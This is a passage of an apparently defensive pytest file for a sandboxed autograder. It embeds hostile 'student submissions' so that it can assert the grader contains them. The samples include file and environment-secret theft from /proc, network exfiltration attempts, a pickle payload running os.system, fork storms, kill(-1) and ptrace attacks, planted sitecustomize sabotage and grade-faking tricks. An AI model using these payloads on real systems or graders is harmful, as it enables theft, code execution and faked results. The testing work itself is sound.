"""Hostile submissions: what students who want points will try, and what the grader must do about it.

Each test grades a realistic attack on the toy assignment and asserts the grader's behaviour, never
the attack's: the score stays at its honest value, a batch completes with every submission present,
nothing appears on the host, no process survives, no connection is made, no secret reaches the
feedback, and the next submission graded by the same grader is unaffected.

Points of the toy suite (tests/course/solutions/toy/test_toy.py), by the function they call:
  double    -> test_double[float32] 20, test_double[float64] 20, test_judged 10, test_last 20 (70)
  normalize -> test_normalize 20
  name      -> test_name 10
so an attack placed in ``name`` that costs its own check leaves an honest 90, a ``double`` that
returns wrong values leaves 30, and so on. Feedback of a check that raised is
"<Type> (line N in f): <message>", message cut at 200 characters: the channel an attacker would
use to read things out, so the attacks below report what they got through it.

Attacks that could poison a warm worker (processes, /tmp, planted files, killed workers, a changed
environment) get a grader of their own (``fresh_grader``) so a failure cannot spill into other tests.
Attack loops are bounded so that a broken sandbox cannot take the test machine down.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

import autograder
from autograder import reference_cache
from autograder.batch import grade_batch
from autograder.grading import Grader
from tests.conftest import ROOT, TOY_COURSE, by_test
from tests.test_grading_faults import CORRECT, variant

DOUBLE_CHECKS = ("test_double[float32]", "test_double[float64]", "test_judged", "test_last")


# -- helpers -----------------------------------------------------------------------------------

def src(template: str, **values) -> str:
    """A submission's source: ``__NAME__`` placeholders replaced by the repr of a value."""
    for key, value in values.items():
        template = template.replace(f"__{key}__", repr(value))
    return template


def feedback(result) -> str:
    """Everything a student (or a results file) would see of a result."""
    return json.dumps(result.to_dict())


def assert_lost_only(result, lost: tuple[str, ...], statuses: tuple[str, ...] = ("error",)):
    """The checks in ``lost`` score 0 with one of ``statuses`` (or pass, if "passed" is one of them);
    every other check passed."""
    checks = by_test(result)
    for name, check in checks.items():
        if name in lost and check.status == "passed" and "passed" in statuses:
            assert check.score == check.max_score, (name, check)
        elif name in lost:
            assert check.score == 0 and check.status in statuses, (name, check)
        else:
            assert check.status == "passed", (name, check)


def host_pids(pattern: str, wait_s: float = 2.0) -> list[str]:
    """Host processes whose command line contains ``pattern``, after up to ``wait_s`` for teardown."""
    deadline = time.monotonic() + wait_s
    while True:
        found = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True).stdout.split()
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.1)


def kill_leftovers(pids: list[str]) -> None:
    """Clean up after a failed containment test: only the processes this test's attack started."""
    for pid in pids:
        try:
            os.kill(int(pid), 9)
        except (ProcessLookupError, ValueError, PermissionError):
            pass


def sha256(path: Path) -> str | None:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return None


@pytest.fixture
def fresh_grader(toy):
    """A grader (a warm sandboxed worker) for this test alone."""
    with Grader(toy) as grader:
        yield grader


@pytest.fixture
def grade(write):
    def _grade(grader, source, submission_id="student", name="toy.py"):
        return grader.grade(write(source, name), submission_id)
    return _grade


def write_class(folder: Path, submissions: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for sid, source in submissions.items():
        (folder / f"{sid}.py").write_text(source)
    return folder


def quiet(*_args, **_kwargs):
    pass


# == 1. reading the reference or the expected values ==============================================

STEAL = r'''
import os

TARGET = __TARGET__


def _steal(path):
    """Read a file, or every file under a folder (a cache of expected values)."""
    if os.path.isdir(path):
        loot = " ".join(sorted(os.listdir(path)))
        for root, _, files in os.walk(path):
            for name in files:
                with open(os.path.join(root, name), "rb") as handle:
                    loot += " " + repr(handle.read(200))
        return loot
    with open(path, "rb") as handle:
        return repr(handle.read(200))
'''


def _secret_paths():
    return {
        "checkout_solutions_toy": ROOT / "solutions" / "toy" / "toy.py",
        "checkout_backprop_reference": ROOT / "solutions" / "backprop" / "backprop.py",
        "toy_reference": TOY_COURSE / "solutions" / "toy" / "toy.py",
        "toy_judges": TOY_COURSE / "solutions" / "toy" / "judges.py",
        "toy_yaml": TOY_COURSE / "solutions" / "toy" / "assignment.yaml",
        "user_cache": Path.home() / ".cache" / "torchgrade",
        "torchgrade_cache_dir": reference_cache.cache_dir(),
        "cached_reference_run": "CACHE_FILE",
    }


@pytest.mark.parametrize("target", list(_secret_paths()))
def test_reading_the_reference_or_expected_values_fails(toy_grader, toy, grade, target):
    toy_grader.reference()  # the cached reference run now exists on the host
    path = _secret_paths()[target]
    path = reference_cache.cache_path(toy) if path == "CACHE_FILE" else path
    body = ('try:\n    loot = _steal(TARGET)\nexcept OSError as exc:\n'
            '    raise RuntimeError(f"DENIED {type(exc).__name__}")\nraise RuntimeError("READ " + loot[:150])')
    result = grade(toy_grader, src(STEAL, TARGET=str(path)) + variant(name=body))
    message = by_test(result)["test_name"].message
    assert "DENIED" in message and re.search(r"FileNotFoundError|PermissionError|NotADirectoryError", message), message
    assert "READ" not in message
    shown = feedback(result)
    for text in ("BEGIN SOLUTION", "Reference of the toy", "within_a_tenth", "__tensor__", "safetensors"):
        assert text not in shown
    assert result.score == 90
    assert_lost_only(result, ("test_name",))


# == 2. importing the reference: `import solutions` and every other way in ========================

IMPORT_REFERENCE = r'''
import glob, importlib, importlib.metadata, importlib.util, json, os, sys

CHECKOUT, TOY_COURSE = __CHECKOUT__, __TOY_COURSE__
SUCCEEDED = []
REFERENCE = None


def _by_path(path):
    spec = importlib.util.spec_from_file_location("_stolen_reference", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _with_path(folder, module):
    sys.path.insert(0, folder)
    try:
        return importlib.import_module(module)
    finally:
        sys.path.remove(folder)


def _editable_roots():
    # An editable install records where the checkout lives: follow it to solutions/.
    roots = []
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages", "__editable__*finder.py")):
        for line in open(finder):
            if line.startswith("MAPPING"):
                roots += [os.path.dirname(p) for p in eval(line.split("=", 1)[1]).values()]
    try:
        url = json.loads(importlib.metadata.distribution("torchgrade").read_text("direct_url.json"))["url"]
        roots.append(url.removeprefix("file://"))
    except Exception:
        pass
    return roots


def _course(root):
    from autograder.course import Course
    return _by_path(str(Course(root).assignment("toy").reference))


ATTEMPTS = [
    ("import solutions", lambda: importlib.import_module("solutions")),
    ("solutions.toy.toy", lambda: importlib.import_module("solutions.toy.toy")),
    ("tests.course", lambda: importlib.import_module("tests.course.solutions.toy.toy")),
    ("sys.path checkout", lambda: _with_path(CHECKOUT, "solutions.backprop.backprop")),
    ("sys.path toy", lambda: _with_path(os.path.join(TOY_COURSE, "solutions", "toy"), "toy")),
    ("by path", lambda: _by_path(os.path.join(TOY_COURSE, "solutions", "toy", "toy.py"))),
    ("next to the suite", lambda: _by_path("/suite/toy.py")),
    ("Course(course)", lambda: _course(TOY_COURSE)),
    ("Course()", lambda: _course(None)),
] + [(f"editable {root}", lambda root=root: _by_path(os.path.join(root, "tests", "course", "solutions", "toy", "toy.py")))
     for root in _editable_roots()]

for label, attempt in ATTEMPTS:
    try:
        module = attempt()
    except BaseException:
        continue
    SUCCEEDED.append(label)
    if REFERENCE is None and hasattr(module, "double"):
        REFERENCE = module
'''


def test_importing_the_reference_fails_by_any_path(toy_grader, grade):
    # double hands over to the reference when any import worked, and is wrong otherwise; name reports.
    source = src(IMPORT_REFERENCE, CHECKOUT=str(ROOT), TOY_COURSE=str(TOY_COURSE)) + variant(
        double="return REFERENCE.double(x) if REFERENCE is not None else 3 * x",
        name='raise RuntimeError("imported: " + (", ".join(SUCCEEDED) or "nothing"))')
    result = grade(toy_grader, source)
    assert by_test(result)["test_name"].message.endswith("imported: nothing"), by_test(result)["test_name"].message
    assert result.score == 20  # normalize only: nothing the reference computes earns a point
    assert all(by_test(result)[name].score == 0 for name in DOUBLE_CHECKS)


# == 3. monkeypatching the comparisons ============================================================

PATCH_COMPARISONS = r'''
import math
import numpy
import numpy.testing
import torch
import torch.testing

# Make every comparison a grader could use say "equal".
_yes = lambda *args, **kwargs: True
_silent = lambda *args, **kwargs: None
torch.allclose = torch.equal = _yes
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.equal = torch.Tensor.allclose = _yes
torch.testing.assert_close = _silent
numpy.allclose = numpy.array_equal = numpy.array_equiv = _yes
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = numpy.testing.assert_array_almost_equal = _silent
math.isclose = _yes
'''


def test_patched_comparisons_do_not_rescue_wrong_values(toy_grader, grade):
    result = grade(toy_grader, PATCH_COMPARISONS + variant(double="return 2 * x + 1"))
    assert result.status == "graded" and result.score == 30
    assert_lost_only(result, DOUBLE_CHECKS, statuses=("failed",))


# == 4. os._exit(0) at import =====================================================================

def test_os_exit_at_import_scores_zero(toy_grader, grade):
    result = grade(toy_grader, CORRECT + "import os\nos._exit(0)  # pytest never gets to report a failure\n")
    assert result.status == "error" and result.score == 0
    assert "could not be imported" in result.message
    assert all(check.score == 0 for check in result.checks)
    assert grade(toy_grader, CORRECT).score == 100


# == 5. sys.exit(0) inside a call =================================================================

@pytest.mark.parametrize("exit_call", ["sys.exit(0)", "raise SystemExit(0)", "os._exit(0)"])
def test_exit_inside_a_call_costs_only_that_check(toy_grader, grade, exit_call):
    result = grade(toy_grader, variant(name=f"import os, sys\n{exit_call}  # 'all tests passed', says the exit code"))
    assert result.status == "graded" and result.score == 90
    assert_lost_only(result, ("test_name",))


# == 6. writing fake result files everywhere ======================================================

FORGE_RESULTS = r'''
import json, os

OUT, HOST_CWD, CHECKOUT, MARK = __OUT__, __HOST_CWD__, __CHECKOUT__, __MARK__


def _row(sid, score):
    return {"assignment": "toy", "submission": sid, "score": score, "max_score": 100.0, "status": "graded",
            "message": MARK, "duration_s": 0.1, "checks": []}


FAKE = {
    "results.json": json.dumps(_row("mallory", 100.0)),
    "results.jsonl": json.dumps(_row("mallory", 100.0)) + "\n" + json.dumps(_row("zoe", 0.0)) + "\n",
    "grades.csv": "submission,score,max_score,status\nmallory,100.0,100.0,graded\nzoe,0.0,100.0,graded\n# " + MARK + "\n",
}


def _forge():
    # Overwrite (and append to) every results file the grader or a course script might read.
    for folder in (".", "..", "/tmp", "/grader", "/suite", OUT, HOST_CWD, CHECKOUT, os.path.expanduser("~")):
        for name, text in FAKE.items():
            for mode in ("w", "a"):
                try:
                    with open(os.path.join(folder, name), mode) as handle:
                        handle.write(text)
                except OSError:
                    pass


_forge()  # at import, in every child
'''


def test_fake_result_files_never_reach_the_host_or_the_batch(toy, tmp_path):
    mark = f"FORGED-{uuid.uuid4().hex}"
    out = tmp_path / "out"
    host_cwd = Path.cwd()
    forger = src(FORGE_RESULTS, OUT=str(out), HOST_CWD=str(host_cwd), CHECKOUT=str(ROOT), MARK=mark) + variant(
        double="_forge()\nreturn 3 * x", name='_forge()\nreturn "toy"')
    folder = write_class(tmp_path / "class", {"mallory": forger, "zoe": CORRECT})
    watched = [folder / name for name in ("results.json", "results.jsonl", "grades.csv")]
    for place in {host_cwd, ROOT, Path("/tmp"), Path.home(), tmp_path}:
        watched += [place / name for name in ("results.json", "results.jsonl", "grades.csv")]
    before = {path: sha256(path) for path in watched}

    results = grade_batch(toy, folder, out, jobs=1, echo=quiet)

    assert [r.submission for r in results] == ["mallory", "zoe"]
    assert [r.score for r in results] == [30, 100]  # mallory's double is wrong; zoe is correct
    assert {path: sha256(path) for path in watched} == before
    for written in out.rglob("*"):
        if written.is_file() and written.suffix != ".sqlite":
            assert mark not in written.read_text(errors="replace"), written
    lines = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
    assert [(row["submission"], row["score"]) for row in lines] == [("mallory", 30), ("zoe", 100)]
    rows = list(csv.DictReader((out / "grades.csv").open()))
    assert [(row["submission"], float(row["score"]), row["status"]) for row in rows] == [
        ("mallory", 30.0, "graded"), ("zoe", 100.0, "graded")]


# == 7, 8. infinite loop, sleep ===================================================================

def test_infinite_loop_times_out_that_check_only(toy_grader, grade):
    result = grade(toy_grader, variant(name="while True:  # never returns\n    pass"))
    assert by_test(result)["test_name"].status == "timeout"
    assert result.score == 90
    assert_lost_only(result, ("test_name",), statuses=("timeout",))


def test_sleeping_forever_times_out_that_check_only(toy_grader, grade):
    result = grade(toy_grader, variant(name="import time\ntime.sleep(10_000)  # hold the worker hostage"))
    assert result.score == 90
    assert_lost_only(result, ("test_name",), statuses=("timeout",))


# == 9. memory bombs ==============================================================================

def _memory_cap_bytes() -> int:
    """A bound for the bytearray bomb: half the host's available memory, so a broken sandbox survives."""
    with open("/proc/meminfo") as meminfo:
        available_kib = next(int(line.split()[1]) for line in meminfo if line.startswith("MemAvailable:"))
    return available_kib * 1024 // 2


MEMORY_BOMBS = {
    # 64 tensors of 50 GB each; torch.empty does not touch the pages, so no limit, no damage.
    "tensor_50gb": ("import torch\nhoard = []\nfor _ in range(64):\n"
                    "    hoard.append(torch.empty(50 * 2**30, dtype=torch.uint8))\nreturn 'toy'"),
    # A bytearray grown 256 MB at a time (the pages are written), up to half the host's free memory.
    "bytearray_growth": ("hoard, chunk = bytearray(), b'\\x01' * (256 * 2**20)\nwhile len(hoard) < CAP:\n"
                         "    hoard += chunk\nreturn 'toy'"),
}


@pytest.mark.parametrize("bomb", list(MEMORY_BOMBS))
def test_memory_bomb_errors_that_check_and_the_next_submission_scores_full(toy_grader, grade, bomb):
    source = f"CAP = {_memory_cap_bytes()}\n" + variant(name=MEMORY_BOMBS[bomb])
    result = grade(toy_grader, source)
    assert result.status == "graded" and result.score == 90
    assert_lost_only(result, ("test_name",))
    assert grade(toy_grader, CORRECT).score == 100


# == 10. fork storm ===============================================================================

FORK_STORM = r'''
import os, time

MARK = __MARK__


def _storm():
    # Fork as fast as possible; every child becomes a sleeper. Bounded at 2000 forks so a broken
    # sandbox cannot take the test machine down.
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError:
            continue  # a process limit: keep pushing, as a real storm would
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["sleep", MARK])
            finally:
                time.sleep(20)
                os._exit(0)
'''


def test_fork_storm_is_contained_and_the_next_submission_is_unaffected(fresh_grader, grade):
    mark = f"20.{uuid.uuid4().int % 10**9:09d}"  # `sleep 20.<unique>`: findable on the host
    try:
        result = grade(fresh_grader, src(FORK_STORM, MARK=mark) + variant(name='_storm()\nreturn "toy"'))
        assert result.status == "graded"
        # Forking is allowed: the storm's own check passes, or errs or times out against a limit.
        assert_lost_only(result, ("test_name",), statuses=("passed", "error", "timeout"))
        survivors = host_pids(mark)
        assert survivors == [], f"{len(survivors)} processes of the fork storm outlived its grading"
        assert grade(fresh_grader, CORRECT).score == 100
    finally:
        kill_leftovers(host_pids(mark, wait_s=0))


# == 11. a setsid daemon ==========================================================================

DAEMON = r'''
import os

MARK = __MARK__


def _daemonize():
    # The classic double fork: the grandchild is reparented, in a session of its own, with no
    # descriptor shared with the grader, and becomes a long-lived process.
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)
            os.execv("/bin/sleep", ["sleep", MARK])
        os._exit(0)
    os.waitpid(pid, 0)
'''


def test_setsid_daemon_does_not_outlive_its_grading(fresh_grader, grade):
    mark = f"61234.{uuid.uuid4().int % 10**9:09d}"
    try:
        result = grade(fresh_grader, src(DAEMON, MARK=mark) + variant(name='_daemonize()\nreturn "toy"'))
        assert result.status == "graded" and result.score == 100  # forking is allowed; surviving is not
        assert host_pids(mark) == [], "the daemon survived its grading"
    finally:
        kill_leftovers(host_pids(mark, wait_s=0))


# == 12. network connections ======================================================================

NETWORK = r'''
import socket, time

PORT, UDP_PORT = __PORT__, __UDP_PORT__


def _phone_home():
    report = []

    def attempt(label, connect):
        started = time.monotonic()
        try:
            connect()
            report.append(f"{label}:CONNECTED")
        except OSError as exc:
            report.append(f"{label}:{type(exc).__name__}/{exc.errno}:{time.monotonic() - started:.1f}s")

    def tcp(host, port):
        with socket.create_connection((host, port), timeout=1) as conn:
            conn.sendall(b"exfiltrated: the hidden tests")

    def udp(host, port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"exfiltrated: the hidden tests", (host, port))

    attempt("lo", lambda: tcp("127.0.0.1", PORT))
    attempt("udp", lambda: udp("127.0.0.1", UDP_PORT))
    attempt("pub", lambda: tcp("1.1.1.1", 53))
    return " ".join(report)
'''


def test_no_network_connection_is_made(toy_grader, grade):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    seen, stop = [], threading.Event()

    def accept():
        deadline = time.monotonic() + 60  # bounded, whatever happens to the test
        while not stop.is_set() and time.monotonic() < deadline:
            try:
                conn, _ = server.accept()
            except (socket.timeout, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    seen.append(conn.recv(100))
                except OSError:
                    seen.append(b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        source = src(NETWORK, PORT=server.getsockname()[1], UDP_PORT=udp.getsockname()[1]) + variant(
            name="raise RuntimeError(_phone_home())")
        result = grade(toy_grader, source)
    finally:
        stop.set()
        thread.join(5)
        server.close()
    try:
        datagram = udp.recv(100)
    except BlockingIOError:
        datagram = None
    udp.close()
    assert seen == [] and datagram is None, f"the sandbox reached the host: {seen or datagram}"
    message = by_test(result)["test_name"].message
    assert "CONNECTED" not in message, message
    public = re.search(r"pub:\w+/\w+:(\d+\.\d)s", message)
    assert public and float(public.group(1)) <= 1.5, f"connecting to 1.1.1.1 did not fail fast: {message}"
    assert result.score == 90
    assert_lost_only(result, ("test_name",))


# == 13. environment secrets ======================================================================

ENV_THIEF = r'''
import os


def _loot():
    # This process's environment, and every other process's environment and command line.
    texts = ["\n".join(f"{k}={v}" for k, v in os.environ.items())]
    for pid in (os.listdir("/proc") if os.path.isdir("/proc") else []):
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    texts.append(handle.read().replace(b"\0", b"\n").decode(errors="replace"))
            except OSError:
                pass
    found = [line for text in texts for line in text.splitlines()
             if any(word in line.upper() for word in ("SECRET", "TOKEN", "PASSWORD", "KEY="))]
    return found
'''


@pytest.mark.parametrize("channel", ["exception", "returned_value"])
def test_environment_secrets_never_reach_the_feedback(toy, monkeypatch, grade, channel):
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("TORCHGRADE_TEST_SECRET", secret)
    monkeypatch.setenv("INSTRUCTOR_API_TOKEN", secret)
    name = ('found = _loot()\nraise RuntimeError("found: " + " ".join(found)[:180] if found else "found nothing")'
            if channel == "exception" else
            'found = _loot()\nreturn " ".join(found) if found else "toy"')  # "wrong value (got '...')" shows it
    with Grader(toy) as grader:  # a worker started with the secret in the grader's environment
        result = grade(grader, ENV_THIEF + variant(name=name))
    assert secret not in feedback(result)
    if channel == "exception":
        assert by_test(result)["test_name"].message.endswith("found nothing"), by_test(result)["test_name"].message
        assert result.score == 90
    else:
        assert result.score == 100


# == 14. reading another student's submission =====================================================

ALICE = r'''
import os

MARK = __MARK__
# Leave notes everywhere a later submission might look.
for place in ("/tmp/alice-notes.txt", "/dev/shm/alice-notes.txt", "/var/tmp/alice-notes.txt",
              os.path.expanduser("~/.alice-notes"), "alice-notes.txt", "../alice-notes.txt"):
    try:
        with open(place, "w") as handle:
            handle.write(MARK)
    except OSError:
        pass
os.environ["ALICE_NOTES"] = MARK
'''

BOB = r'''
import os, sys, time


def _search():
    pattern = ("ALICE" + "-MARK-").encode()  # built at run time: this file itself does not match
    mine = os.getcwd()
    started = time.monotonic()
    found = []

    def look(path):
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 20)
        except OSError:
            return
        at = data.find(pattern)
        if at >= 0:
            found.append(f"{path}: {data[at:at + 50].decode(errors='replace')}")

    # 1) shared scratch places, then the whole root file system (minus the runtime).
    skip = {"/proc", "/sys", "/usr", "/dev", mine, sys.prefix, sys.base_prefix}
    for top in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/"):
        for root, dirs, files in os.walk(top):
            if time.monotonic() - started > 1.5:
                break
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
            for name in files:
                look(os.path.join(root, name))
    # 2) other processes: their working folders, environments and command lines.
    for pid in (os.listdir("/proc") if os.path.isdir("/proc") else []):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        look(f"/proc/{pid}/environ")
        look(f"/proc/{pid}/cmdline")
        try:
            for name in os.listdir(f"/proc/{pid}/cwd"):
                look(f"/proc/{pid}/cwd/{name}")
        except OSError:
            pass
    return found
'''


def test_a_submission_cannot_read_another_students(toy, tmp_path):
    mark = f"ALICE-MARK-{uuid.uuid4().hex}"
    folder = write_class(tmp_path / "class", {
        "alice": src(ALICE, MARK=mark) + CORRECT,
        "bob": BOB + variant(name='found = _search()\nraise RuntimeError("found " + " | ".join(found)[:150] if found else "found nothing")'),
    })
    results = grade_batch(toy, folder, tmp_path / "out", jobs=1, echo=quiet)  # one worker: alice, then bob
    assert [(r.submission, r.score) for r in results] == [("alice", 100), ("bob", 90)]
    bob = results[1]
    assert by_test(bob)["test_name"].message.endswith("found nothing"), by_test(bob)["test_name"].message
    assert mark.split("-")[-1] not in feedback(bob)


# == 15. killing every process it can signal ======================================================

KILLS = {
    "kill_everything": "os.kill(-1, signal.SIGKILL)",
    "kill_own_group": "os.killpg(0, signal.SIGKILL)",
    "kill_parent": "os.kill(os.getppid(), signal.SIGKILL)",
}


def _killer(call: str) -> str:
    return variant(name=f"import os, signal\n{call}\nraise RuntimeError('still alive')")


@pytest.mark.parametrize("attack", list(KILLS))
def test_killing_every_process_it_can_signal_harms_no_one_else(fresh_grader, grade, attack):
    result = grade(fresh_grader, _killer(KILLS[attack]))
    assert result.status == "graded" and result.score == 90  # test_name is lost, whichever way it ends
    assert_lost_only(result, ("test_name",))
    assert [grade(fresh_grader, CORRECT).score for _ in range(2)] == [100, 100]
    os.kill(os.getpid(), 0)  # and this process is alive to say so


# == 15b. reading or altering the warm worker it was forked from ==================================

TRACER = variant(name=r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
reached = []
for pid in range(1, 4096):
    if pid == os.getpid():
        continue
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        reached.append(f"ptrace {pid}")
    for leak in ("mem", "environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{leak}", "rb") as handle:
                reached.append(f"{leak} {pid}: {handle.read(64)!r}")
        except OSError:
            pass
raise RuntimeError(f"reached: {reached}")
""")


def test_the_warm_worker_cannot_be_traced_or_read(fresh_grader, grade):
    """ptrace and /proc/<pid>/mem against every pid: the worker is in no namespace the child sees."""
    result = grade(fresh_grader, TRACER)
    assert by_test(result)["test_name"].message.endswith("reached: []")
    assert_lost_only(result, ("test_name",))
    assert grade(fresh_grader, CORRECT).score == 100


def test_killers_in_a_batch_leave_every_classmate_graded(toy, tmp_path):
    submissions = {f"killer_{attack}": _killer(call) for attack, call in KILLS.items()}
    submissions.update({"zoe": CORRECT, "zack": CORRECT})
    folder = write_class(tmp_path / "class", submissions)
    results = grade_batch(toy, folder, tmp_path / "out", jobs=2, echo=quiet)
    assert sorted(r.submission for r in results) == sorted(submissions)
    scores = {r.submission: r.score for r in results}
    assert scores["zoe"] == scores["zack"] == 100
    assert all(scores[f"killer_{attack}"] == 90 for attack in KILLS), scores


# == 16. planting code for later submissions ======================================================

PLANT = r'''
import os, site, sys

# Loaded by a later interpreter or import: make every multiplication and division return zeros.
SABOTAGE = (
    "import torch\n"
    "_zero = lambda self, *args, **kwargs: torch.zeros_like(self)\n"
    "torch.Tensor.__mul__ = torch.Tensor.__rmul__ = torch.Tensor.__truediv__ = _zero\n"
)
PTH = "import torch; torch.Tensor.__rmul__ = torch.Tensor.__truediv__ = lambda self, *a: torch.zeros_like(self)\n"


def _plant():
    folders = set(sys.path) | {"/tmp", "/dev/shm", "/var/tmp", "/grader", "/suite", os.getcwd(), os.path.dirname(os.getcwd()),
                               os.path.expanduser("~"), site.getusersitepackages(), *site.getsitepackages()}
    # Shadow every standard module not imported yet, in case a later child imports it lazily.
    shadows = sorted(set(sys.stdlib_module_names) - set(sys.modules))
    for folder in sorted(f for f in folders if f):
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            pass
        # (next to the hidden suite, a package __init__ and a conftest that pytest might pick up)
        files = {"sitecustomize.py": SABOTAGE, "usercustomize.py": SABOTAGE, "zzz_sabotage.pth": PTH,
                 "__init__.py": SABOTAGE, "conftest.py": SABOTAGE}
        if os.access(folder, os.W_OK):
            files.update({f"{name}.py": SABOTAGE for name in shadows})
        for name, text in files.items():
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
            except OSError:
                pass
'''


def test_planted_sitecustomize_and_pth_files_do_not_reach_the_next_submission(fresh_grader, grade):
    planted = grade(fresh_grader, PLANT + variant(name='_plant()\nreturn "toy"'))
    assert planted.status == "graded"  # what it does to itself is its own business
    for _ in range(2):
        after = grade(fresh_grader, CORRECT)
        assert (after.score, after.status) == (100, "graded"), feedback(after)


# == 17. pickle payloads ==========================================================================

PICKLE = r'''
import os, pickle, struct

HOST_FILE = __HOST_FILE__


class Payload:
    """Unpickling this runs a shell command: whoever calls pickle.loads on it is owned."""
    def __reduce__(self):
        return (os.system, (f"touch {HOST_FILE}",))


BLOB = pickle.dumps(Payload())


def _spray():
    # Raw pickles, length-prefixed pickles and pickles posing as relayed child messages, on every
    # descriptor it may hold (3..50 and beyond: the message channel is one of them).
    for fd in range(3, 1024):
        for data in (BLOB, struct.pack(">I", len(BLOB)) + BLOB, struct.pack(">I", len(BLOB) + 1) + b"C" + BLOB):
            try:
                os.write(fd, data)
            except OSError:
                pass
'''


def test_pickle_payloads_never_run_on_the_host(toy_grader, grade):
    host_file = Path(f"/tmp/pwned-{uuid.uuid4().hex}")
    source = src(PICKLE, HOST_FILE=str(host_file)) + variant(
        name="_spray()\nreturn Payload()  # observed as the value of `name`")
    result = grade(toy_grader, source)
    time.sleep(0.5)
    assert not host_file.exists(), "a pickle from the sandbox was unpickled on the host"
    assert result.score == 90
    assert_lost_only(result, ("test_name",), statuses=("error", "failed"))


# == 18. tensor subclasses ========================================================================

LIAR = r'''
import torch

_SAYS_EQUAL = {torch.equal, torch.allclose, torch.Tensor.equal, torch.Tensor.allclose}
_SAYS_SAME = {torch.eq, torch.isclose, torch.Tensor.__eq__, torch.Tensor.eq, torch.Tensor.isclose}
_SAYS_NOT_DIFFERENT = {torch.ne, torch.Tensor.__ne__, torch.Tensor.ne}


class Liar(torch.Tensor):
    """Holds wrong values; every comparison says "equal", and every export shows the right answer."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in _SAYS_EQUAL:
            return True
        if func in _SAYS_SAME:
            return torch.ones(args[0].shape, dtype=torch.bool)
        if func in _SAYS_NOT_DIFFERENT:
            return torch.zeros(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

    def _right(self):
        return self.as_subclass(torch.Tensor) * 2 / 3  # what the grader "should" see

    def tolist(self):
        return self._right().tolist()

    def numpy(self, *args, **kwargs):
        return self._right().numpy(*args, **kwargs)

    def item(self):
        return self._right().item()

    def __float__(self):
        return float(self._right())

    def __repr__(self):
        return repr(self._right())
'''


def test_lying_tensor_subclasses_are_graded_as_plain_values(toy_grader, grade):
    result = grade(toy_grader, LIAR + variant(double="return (3 * x).as_subclass(Liar)"))
    assert result.score == 30
    assert_lost_only(result, DOUBLE_CHECKS, statuses=("failed",))


# == 19. stdout/stderr floods =====================================================================

def test_a_200_mb_flood_of_output_is_free(toy_grader, grade):
    body = ("import os, sys\nline = 'x' * (1 << 20)\nfor _ in range(100):\n"
            "    print(line)                     # 100 MB through sys.stdout\n"
            "    os.write(2, line.encode())      # 100 MB straight to fd 2\n"
            "return 'toy'")
    result = grade(toy_grader, variant(name=body))
    assert (result.score, result.status) == (100, "graded"), feedback(result)[:2000]
    assert len(feedback(result)) < 10_000  # none of the flood is in the result


# == 20. patched clocks and ignored signals =======================================================

CLOCKS = r'''
import signal, time

# Freeze every clock the grader might read inside this process, and ignore every polite signal.
time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 1_000_000.0
time.time_ns = time.monotonic_ns = time.perf_counter_ns = lambda: 1_000_000_000_000_000
time.sleep = lambda seconds: None
for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT,
            signal.SIGUSR1, signal.SIGUSR2, signal.SIGXCPU, signal.SIGVTALRM, signal.SIGPROF):
    signal.signal(sig, signal.SIG_IGN)
signal.alarm(0)
signal.setitimer(signal.ITIMER_REAL, 0)
'''


def test_patched_clocks_and_ignored_signals_still_time_out(toy_grader, grade):
    result = grade(toy_grader, CLOCKS + variant(name="while True:\n    pass"))
    assert by_test(result)["test_name"].status == "timeout"
    assert result.score == 90
    assert_lost_only(result, ("test_name",), statuses=("timeout",))


# == 21. writing into the grader's code ===========================================================

def _grader_files() -> list[Path]:
    package = Path(autograder.__file__).resolve().parent
    return sorted(package.rglob("*.py"))


GRADER_WRITER = r'''
import os, sys

HOST_PACKAGE, MARK = __HOST_PACKAGE__, __MARK__
TARGETS = ["/grader/autograder/scoring/score.py", "/grader/autograder/scoring/compare.py",
           "/grader/autograder/sandbox/plugin.py", "/grader/autograder/__init__.py", "/suite/test_toy.py",
